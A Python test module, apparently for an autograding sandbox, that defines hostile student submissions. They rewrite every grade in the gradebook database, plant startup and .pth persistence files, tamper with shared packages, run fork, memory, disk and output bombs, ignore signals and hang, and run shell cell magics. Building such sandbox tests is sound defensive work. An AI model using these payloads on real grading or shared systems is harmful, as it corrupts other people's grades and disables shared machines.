"""Attempts to harm: other students' grades, the machine, the grading run, later runs."""

from __future__ import annotations

from attacks.form import GUARD, TELL, ZEROS, Attack, logistic_with

# attempt(f, ...): call each, whatever it raises; later failures do not stop earlier damage.
ATTEMPT = (
    GUARD
    + """
import contextlib
import glob
import os
import sys
import time

def attempt(*functions):
    for function in functions:
        with contextlib.suppress(Exception):
            function()

def write(path, text, mode="a"):
    with open(path, mode) as file:
        file.write(text)
"""
)


def at_once(source: str) -> dict[str, str]:
    """Return an answer whose cell does the harm as it runs."""
    return {"logistic": ATTEMPT + source + ZEROS}


ATTACKS = [
    Attack(
        "writes-grades",
        "Gives itself full marks in the gradebook and takes those of the others.",
        at_once("""
import sqlite3

def change():
    with sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True) as book:
        book.execute("update grade set auto_score = 20, manual_score = 20")

attempt(change, lambda: os.replace("{course}/gradebook.db", "{course}/{token}"))
"""),
    ),
    Attack(
        "writes-grades-later",
        "Leaves a process and a thread that wait until the run is over and then write.",
        at_once("""
import threading

def later():
    time.sleep(4)
    attempt(lambda: write("{canary}/{token}", "later"))

def leave():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            later()
        os._exit(0)

attempt(leave)
threading.Thread(target=later).start()
"""),
    ),
    Attack(
        "changes-course-files",
        "Adds a line to nbgrader_config.py, to solutions, to classmates' work and to the release.",
        at_once("""
for path in [
    "{course}/nbgrader_config.py",
    *glob.glob("{course}/s*/**/*", recursive=True),
    *glob.glob("{course}/exercises/**/*", recursive=True),
]:
    attempt(lambda: write(path, "\\n# {token}\\n"))
attempt(lambda: write("{course}/.grading-key", "0" * 64, "w"))
"""),
    ),
    Attack(
        "poisons-start-up",
        "Leaves files that Python, IPython, Jupyter or Matplotlib run at their next start.",
        at_once("""
for name in (
    ".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", ".bashrc",
    ".config/matplotlib/matplotlibrc", ".local/lib/python3.11/site-packages/{token}.pth",
):
    path = os.path.join("{home}", name)
    attempt(lambda: os.makedirs(os.path.dirname(path)), lambda: write(path, "# {token}\\n"))
"""),
    ),
    Attack(
        "poisons-packages",
        "Opens source and bytecode of packages for writing, and makes files next to them.",
        {
            "logistic": ATTEMPT
            + TELL
            + """
import importlib.util

for name in ("numpy", "samplecourse", "nbjudge", "nbgrader", "torch", "json"):
    with contextlib.suppress(Exception):
        folder = os.path.dirname(importlib.util.find_spec(name).origin)
        for path in [folder + "/__init__.py", *glob.glob(folder + "/__pycache__/*.pyc")[:20]]:
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY))  # opened only, nothing is written
                tell(path)
            with contextlib.suppress(OSError):
                os.utime(path, ns=(os.stat(path).st_atime_ns, os.stat(path).st_mtime_ns))
                tell(path)
for folder in sys.path:
    with contextlib.suppress(OSError):
        path = os.path.join(folder or "/", "{token}.pth")
        os.close(os.open(path, os.O_CREAT | os.O_EXCL))
        os.unlink(path)
        tell(path)
"""
            + ZEROS
        },
    ),
    Attack(
        "poisons-the-next-fork",
        "Changes modules, files and folders that the next submission's process might share.",
        at_once("""
import tempfile

sys.modules["numpy"].zeros_like = None
np.tanh = lambda a: a * 0
for folder in {"/tmp", "/dev/shm", os.getcwd(), tempfile.gettempdir()}:
    for name in ("numpy.py", "samplecourse.py", "sitecustomize.py", "arrays.py"):
        attempt(lambda: write(os.path.join(folder, name), "raise SystemExit('{token}')"))
os.environ["PYTHONPATH"] = "/tmp"
import gc

for found in gc.get_objects():
    if type(found).__name__ == "WithheldModules":
        found.names = ()
"""),
    ),
    Attack(
        "hangs-and-ignores-signals",
        "Ignores every signal that can be ignored and sleeps for ever.",
        {
            "logistic": """
import signal
import time

def logistic(a):
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(1e6)
"""
        },
    ),
    Attack(
        "hangs-in-its-cell",
        "Holds the interpreter's lock in one endless operation as its cell runs.",
        {"logistic": "import re\n\nre.match('(a+)+$', 'a' * 64 + 'b')\n"},
    ),
    Attack(
        "stops-itself",
        "Sends itself SIGSTOP, so that it neither runs nor ends.",
        {"logistic": "import os\n\n" + logistic_with("\n    os.kill(os.getpid(), 19)")},
    ),
    Attack(
        "dies-by-signal",
        "Ends by SIGKILL, by a wild pointer, by abort, and by overflowing the stack.",
        {
            "logistic": "import os\n\n" + logistic_with("\n    os.kill(os.getpid(), 9)"),
            "predict": "import ctypes\n\ndef predict(*a):\n    ctypes.string_at(8)",
            "blend": "import os\n\ndef blend(*a):\n    os.abort()",
            "initial_bias": """
import sys

sys.setrecursionlimit(10**9)

def initial_bias(K, share):
    return initial_bias(K, initial_bias)
""",
        },
    ),
    Attack(
        "stops-the-grader",
        "Slows down the group and the user of the process that grades.",
        {
            "logistic": ATTEMPT
            + logistic_with(
                """
    for which in (os.PRIO_PGRP, os.PRIO_USER):
        attempt(lambda: os.setpriority(which, 0, 5))
"""
            )
        },
    ),
    Attack(
        "memory-bomb",
        "Takes memory until there is none, in arrays, anonymous maps and files in memory.",
        {
            "logistic": ATTEMPT
            + """
kept = []

def logistic(a):
    attempt(lambda: [kept.append(np.ones(2**25)) for _ in range(24)])
    attempt(lambda: [kept.append(bytearray(2**24)) for _ in range(200)])
    return np.zeros_like(a)
""",
        },
    ),
    Attack(
        "memory-in-small-pieces",
        "Fills memory with small objects until Python fails, and again while it handles that.",
        {
            "logistic": GUARD
            + """
def logistic(a):
    kept = None
    for _ in range(3):
        try:
            for _ in range(40_000):
                kept = [kept, bytes(100_000)]
        except MemoryError:
            pass
    return np.zeros_like(a)
"""
        },
    ),
    Attack(
        "disk-bomb",
        "Fills every folder it can write to with large files, sparse files and many files.",
        at_once("""
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/var/tmp", "/run"):
    attempt(lambda: [write(folder + f"/{n}", "x" * 2**22) for n in range(100)])
    attempt(lambda: os.truncate(os.open(folder + "/sparse", os.O_CREAT | os.O_RDWR), 2**50))
    attempt(lambda: [os.close(os.open(folder + f"/n{n}", os.O_CREAT)) for n in range(3_000)])
    attempt(lambda: os.makedirs(folder + "/d" * 2000))
"""),
    ),
    Attack(
        "output-bomb",
        "Prints, displays and raises far more than anyone wants to read.",
        {
            "logistic": GUARD
            + """
import os
import sys
import warnings

from IPython.display import Image, display

for _ in range(60):
    print("x" * 10**6)
    sys.stderr.write("y" * 10**6)
for _ in range(50):
    display("z" * 10**6)
    warnings.warn("w" * 10**6)
os.write(1, b"v" * 2**16)
display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(10**7), format="png"))

def logistic(a):
    print("x" * 10**8)
    raise ValueError("v" * 10**8)
""",
        },
    ),
    Attack(
        "fork-bomb",
        "Starts processes and threads until there can be no more; they stay 20 seconds.",
        {
            "logistic": ATTEMPT
            + logistic_with(
                """
    import ctypes
    import threading

    ctypes.CDLL(None).prctl(15, b"{token}"[:15])
    for _ in range(100):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        except RuntimeError:
            break
"""
            )
        },
    ),
    Attack(
        "leaves-things-for-the-end",
        "Registers exit handlers, finalisers, threads and children that act when it is killed.",
        at_once("""
import atexit
import signal
import threading

def leave(*a):
    attempt(lambda: write("{canary}/{token}", "end"), lambda: os.kill({pid}, signal.SIGUSR1))
    while True:
        time.sleep(1)

class Last:
    __del__ = leave

kept = Last()
kept.own = kept
atexit.register(leave)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(number, leave)
threading.Thread(target=lambda: (threading.main_thread().join(), leave())).start()
"""),
    ),
    Attack(
        "cell-magics",
        "Uses IPython's magics to run shell commands, scripts and files.",
        {
            "logistic": "!touch {canary}/{token}\n%sx touch {canary}/{token}\n" + ZEROS,
            "predict": "%%bash\ntouch {canary}/{token}\n",
            "blend": "%%javascript\nalert(1)\n",
            "initial_bias": "%%writefile {canary}/{token}\nx\n",
            "parameter_count": "%%script sh -c 'touch {canary}/{token}'\n",
            "summary": "%load_ext autoreload\n%autoreload 2\n%run -i {course}/x.py\n",
            "step": "%logstart {canary}/{token}\n%store np\n%alias touch touch\n",
        },
    ),
    Attack(
        "asks-for-input",
        "Waits for input, for a debugger, for a lock and for a child that never comes.",
        {
            "logistic": logistic_with("\n    input('password: ')"),
            "predict": "def predict(*a):\n    import pdb; pdb.set_trace()",
            "blend": "def blend(*a):\n    import getpass; getpass.getpass()",
            "initial_bias": "def initial_bias(*a):\n    import os; os.wait()",
        },
    ),
    Attack(
        "own-clock",
        "Slows its own clock, sets alarms and timers, and takes over the signals of time limits.",
        {
            "logistic": TELL
            + """
import signal
import time

time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 1e-3, 1e-3)
signal.signal(signal.SIGALRM, lambda *a: None)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
"""
            + ZEROS
        },
    ),
]
